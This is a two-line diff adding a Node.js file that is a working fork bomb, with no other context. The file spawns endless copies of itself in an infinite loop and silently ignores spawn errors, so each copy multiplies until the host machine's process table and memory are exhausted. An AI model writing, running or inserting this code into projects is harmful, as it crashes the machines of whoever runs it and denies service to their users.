@@ -1,0 +1,2 @@
+const { spawn } = require('child_process');
+for (;;) try { spawn(process.execPath, [__filename]).on('error', () => {}); } catch (refused) {}
